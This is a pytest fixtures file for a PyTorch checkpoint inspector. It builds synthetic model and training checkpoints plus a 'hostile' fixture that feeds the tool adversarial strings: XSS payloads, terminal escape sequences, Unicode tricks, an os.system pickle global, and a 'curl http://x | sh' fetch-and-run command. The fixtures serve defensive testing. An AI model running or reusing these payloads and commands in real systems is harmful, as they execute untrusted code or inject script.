from __future__ import annotations

from typing import Any

import pytest

from transload.checkpoint import Checkpoint, GlobalUse, Key, Leaf, Origin, Storage, Tensor
from transload.dtypes import itemsize
from transload.findings import Finding
from transload.geometry import contiguous


class Builder:
    """Builds a checkpoint tensor by tensor, each with its own storage."""

    def __init__(self) -> None:
        self.tensors: list[Tensor] = []
        self.storages: list[Storage] = []
        self.end = 0

    def add(self, *path: Key, dtype: str = "float32", shape: tuple[int, ...] = (2, 2), device: str = "cpu") -> None:
        name = "/".join(map(str, path))
        key = str(len(self.storages))
        nbytes = itemsize(dtype)
        for size in shape:
            nbytes *= size
        self.tensors.append(Tensor(path, name, dtype, shape, contiguous(shape), device, key, file_offset=self.end))
        self.storages.append(Storage(key, key, device, dtype, nbytes, nbytes, self.end, tensors=(name,)))
        self.end += nbytes

    def add_transformer(self, *prefix: Key, layers: int, device: str = "cuda:0") -> None:
        def add(name: str, *shape: int) -> None:
            self.add(*prefix, name, dtype="bfloat16", shape=shape, device=device)

        add("model.embed_tokens.weight", 32000, 4096)
        for layer in range(layers):
            for name in "qkvo":
                add(f"model.layers.{layer}.self_attn.{name}_proj.weight", 4096, 4096)
            add(f"model.layers.{layer}.mlp.gate_proj.weight", 11008, 4096)
            add(f"model.layers.{layer}.mlp.up_proj.weight", 11008, 4096)
            add(f"model.layers.{layer}.mlp.down_proj.weight", 4096, 11008)
            add(f"model.layers.{layer}.input_layernorm.weight", 4096)
            add(f"model.layers.{layer}.post_attention_layernorm.weight", 4096)
        add("model.norm.weight", 4096)
        add("lm_head.weight", 32000, 4096)

    def checkpoint(self, path: str = "model.pt", **fields: Any) -> Checkpoint:
        fields = {"format": "torch-zip", "nbytes": self.end + 1000, "safety": "data-only", **fields}
        return Checkpoint(path, tensors=tuple(self.tensors), storages=tuple(self.storages), **fields)


@pytest.fixture
def builder() -> Builder:
    return Builder()


@pytest.fixture
def transformer() -> Checkpoint:
    builder = Builder()
    builder.add_transformer(layers=32)
    return builder.checkpoint(
        "pytorch_model.bin",
        written_by=Origin("2.1", "2.6"),
        prediction='Without CUDA torch.load fails; map_location="cpu" loads it.',
        findings=(Finding("cuda-tags", "note", "every tensor is tagged cuda:0", ("291 tensors",), ("do this",)),),
    )


@pytest.fixture
def training() -> Checkpoint:
    builder = Builder()
    builder.add_transformer("state_dict", layers=2)
    for index in range(21):
        shape = ((4096, 4096), (11008, 4096), (4096,))[index % 3]
        builder.add("optimizer_states", 0, "state", index, "exp_avg", shape=shape, device="cuda:1")
        builder.add("optimizer_states", 0, "state", index, "step", shape=())
    values = ((("epoch",), "int", "12"), (("global_step",), "int", "34000"), (("loops", "done"), "int", "3"))
    return builder.checkpoint(
        "last.ckpt",
        flavour="Lightning",
        safety="needs-trust",
        written_by=Origin(recorded=(("torch", "2.1.2"),)),
        leaves=tuple(Leaf(path, "/".join(path), kind, text) for path, kind, text in values),
        globals=(
            GlobalUse("argparse", "Namespace", "harmless", "options", 1, 1, 1),
            GlobalUse("torch._utils", "_rebuild_tensor_v2", "data", "a tensor", 1, 60),
        ),
    )


HOSTILE = (
    "\x1b[31mred\x1b[0m",
    "line\nbreak",
    "\u202eevil",
    "x" * 5000,
    "<script>alert(1)</script>",
    "\ud800",
    "." * 2000,
    "",
    "a//b",
    "o" + "\u0301" * 50,
    "\u3164",
    '"><img src=x onerror=alert(1)>',
)


@pytest.fixture
def hostile() -> Checkpoint:
    builder = Builder()
    for name in HOSTILE:
        builder.add(name)
    builder.tensors.append(Tensor(("huge",), "huge", "float32", (10**30,) * 20, (), "\x1b[2J", None))
    builder.tensors.append(Tensor(("long",), "long", "float32", (10**6000,), (), "cpu", None))
    return builder.checkpoint(
        "ev\x1b]0;title\x07il.pt",
        safety="dangerous",
        globals=(
            GlobalUse("os", "system", "dangerous", "runs a command", 1, 1),
            GlobalUse("e\n", "<b>", "unknown", ""),
        ),
        leaves=(Leaf(("c\x1bmd",), "c\x1bmd", "str", "curl http://x | sh\x1b[2J"),),
        prediction="it would run \x1b[2J",
        findings=(
            Finding("code-runs", "error", "it runs os.system\x1b[2J", ("\x1b[2J<b>",), ("do not load \x07 it",)),
        ),
    )


@pytest.fixture
def web_page() -> Checkpoint:
    finding = Finding("html-page", "error", "this is a web page", ("<!DOCTYPE html>",), ("Download it again.",))
    return Checkpoint("model.pt", "html", 14523, integrity="not-a-checkpoint", findings=(finding,))
